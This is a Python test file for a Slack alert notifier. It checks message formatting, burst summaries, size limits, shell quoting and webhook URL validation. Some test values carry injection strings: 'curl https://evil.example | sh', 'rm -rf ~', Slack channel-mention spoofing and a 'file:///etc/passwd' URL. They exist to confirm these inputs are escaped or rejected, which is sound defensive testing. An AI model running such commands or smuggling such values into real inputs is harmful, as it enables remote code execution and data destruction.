"""Slack message formatting: details for one alert, one summary for a burst, nothing unsafe."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest

from notifier.logic import is_slack_webhook_url, parse_alert, see_all_command, slack_message
from spillway_core.alerts import inspect_command

FAILED = {
    "kind": "event_failed",
    "dedupe_key": "emailbison:LEAD_REPLIED:5530021",
    "provider": "emailbison",
    "event_type": "LEAD_REPLIED",
    "attempts": 8,
    "error_class": "RetryableProcessingError",
    "message": "transact: ProvisionedThroughputExceededException",
    "inspect_command": "spillway inspect 'emailbison:LEAD_REPLIED:5530021'",
}
ALARM = {
    "AlarmName": "Spillway-MonitoringProcessorIteratorAge",
    "NewStateValue": "ALARM",
    "NewStateReason": "Threshold Crossed: 3 datapoints were greater than the threshold (300000.0).",
    "AlarmDescription": "The processor is behind. Runbook: docs/operations.md#processoriteratorage",
}


def test_one_failed_event_gives_a_detailed_message_with_commands() -> None:
    message = slack_message([parse_alert(json.dumps(FAILED))])
    text = json.dumps(message)

    assert message["blocks"][0]["type"] == "header"
    assert "LEAD_REPLIED event FAILED" in text
    assert "emailbison:LEAD_REPLIED:5530021" in text
    assert "spillway inspect" in text and "spillway replay" in text


def test_an_alarm_is_formatted_with_its_reason() -> None:
    text = json.dumps(slack_message([parse_alert(json.dumps(ALARM))]))

    assert "ProcessorIteratorAge is ALARM" in text
    assert "Threshold Crossed" in text


def test_a_burst_of_500_failures_is_one_summary() -> None:
    alerts = [
        parse_alert(json.dumps(FAILED | {"dedupe_key": f"emailbison:EMAIL_SENT:{n}", "event_type": "EMAIL_SENT"}))
        for n in range(500)
    ] + [parse_alert(json.dumps(ALARM))]

    message = slack_message(alerts)
    text = json.dumps(message)

    assert "501 alerts in one burst" in text
    assert "500 x EMAIL_SENT event FAILED" in text
    assert "RetryableProcessingError (500)" in text
    assert text.count("emailbison:EMAIL_SENT:") == 5  # a few examples, not 500
    assert len(text) < 4000


def test_unreadable_alerts_do_not_break_the_batch() -> None:
    assert parse_alert("not json").kind == "unknown"
    assert parse_alert('{"something": "else"}').kind == "unknown"


def _blocks_within_limits(message: dict[str, Any]) -> None:
    for block in message["blocks"]:
        if block["type"] == "header":
            assert len(block["text"]["text"]) <= 150
        if "text" in block and block["type"] == "section":
            assert len(block["text"]["text"]) <= 3000
        for field in block.get("fields", []):
            assert len(field["text"]) <= 2000
        assert len(block.get("fields", [])) <= 10


HOSTILE_TEXT = "<!channel> <https://evil.example|click> @here & `rm -rf` '; curl x | sh; echo '"


def test_hostile_text_is_escaped_and_mentions_neutralised() -> None:
    alert = FAILED | {"event_type": HOSTILE_TEXT, "message": HOSTILE_TEXT, "provider": "@channel"}
    message = slack_message([parse_alert(json.dumps(alert))])
    texts = json.dumps(message, ensure_ascii=False)

    assert "<!channel>" not in texts and "<https://" not in texts
    assert "&lt;!channel&gt;" in texts
    assert "@here" not in texts and "@channel" not in texts
    _blocks_within_limits(message)


def test_a_key_that_is_not_a_valid_key_gives_no_command() -> None:
    hostile_key = "emailbison:EMAIL_SENT:1'; curl https://evil.example | sh; echo '"
    message = slack_message([parse_alert(json.dumps(FAILED | {"dedupe_key": hostile_key}))])
    text = json.dumps(message)

    assert "curl" not in text
    assert "spillway inspect" not in text


def test_commands_are_shell_quoted_from_a_valid_key() -> None:
    assert inspect_command("emailbison:send.example.com:12:EMAIL_SENT:884512") == (
        "spillway inspect emailbison:send.example.com:12:EMAIL_SENT:884512"
    )
    assert shlex.split(inspect_command("a:b%27c~d")) == ["spillway", "inspect", "a:b%27c~d"]
    assert shlex.split(inspect_command("x'; rm -rf ~; echo '")) == ["spillway", "inspect", "x'; rm -rf ~; echo '"]


@pytest.mark.parametrize("length", [1990, 2000])
def test_a_2000_character_key_and_long_fields_stay_within_block_kit_limits(length: int) -> None:
    key = "emailbison:h:12:EMAIL_SENT:" + "9" * (length - 27)
    alert = FAILED | {"dedupe_key": key, "message": "&" * 5000, "event_type": "T" * 500}
    single = slack_message([parse_alert(json.dumps(alert))])
    burst = slack_message([parse_alert(json.dumps(alert))] * 7)

    _blocks_within_limits(single)
    _blocks_within_limits(burst)
    assert inspect_command(key) in json.dumps(single)  # a valid key's command is shown whole


@pytest.mark.parametrize(
    ("url", "valid"),
    [
        ("https://hooks.slack.com/services/T000/B000/XXXX", True),
        ("https://hooks.slack-gov.com/services/T000/B000/XXXX", True),
        ("http://127.0.0.1:8123/services/T000/B000/XXXX", True),  # the local run's stand-in
        ("hooks.slack.com/services/T000/B000/XXXX", False),  # no scheme: urllib would raise with the URL
        ("http://hooks.slack.com/services/T000/B000/XXXX", False),
        ("https://hooks.slack.com.evil.example/services/T000", False),
        ("https://user:pw@hooks.slack.com/services/T000", False),
        ("https://hooks.slack.com/other", False),
        ("file:///etc/passwd", False),
        ("https://hooks.slack.com/services/T0 0", False),
        ("not-configured", False),
    ],
)
def test_only_slack_webhook_urls_are_accepted(url: str, valid: bool) -> None:
    assert is_slack_webhook_url(url) is valid


def test_a_burst_summary_lists_exactly_its_failed_events_and_links_the_runbook() -> None:
    queued = [1_795_000_000_000 + n * 1000 for n in range(30)]
    types = ["LEAD_REPLIED", "EMAIL_SENT", "EMAIL_SENT"]
    alerts = [
        parse_alert(json.dumps(FAILED | {"dedupe_key": f"k{n}", "event_type": types[n % 3]}), queued_at_ms=at)
        for n, at in enumerate(queued)
    ] + [parse_alert(json.dumps(ALARM), queued_at_ms=queued[-1] + 60_000)]

    message = slack_message(alerts, runbook_base_url="https://docs.example/spillway/docs/")
    text = json.dumps(message)

    see_all = see_all_command([a for a in alerts if a.kind == "event_failed"])
    assert see_all == (
        "spillway events --status FAILED --type EMAIL_SENT --type LEAD_REPLIED "
        "--since 2026-11-18T11:01:40Z --until 2026-11-18T11:07:10Z"
    )  # the failures' types, from SEE_ALL_LOOKBACK_MS before the first alert to just after the last
    assert f"See all: `{see_all}`" in message["blocks"][-3]["text"]["text"]
    assert "<https://docs.example/spillway/docs/operations.md#runbook-failed-events|Runbook>" in text
    assert "spillway status" not in text
    assert "runbook" not in json.dumps(slack_message(alerts)).lower()  # no base URL configured: no link
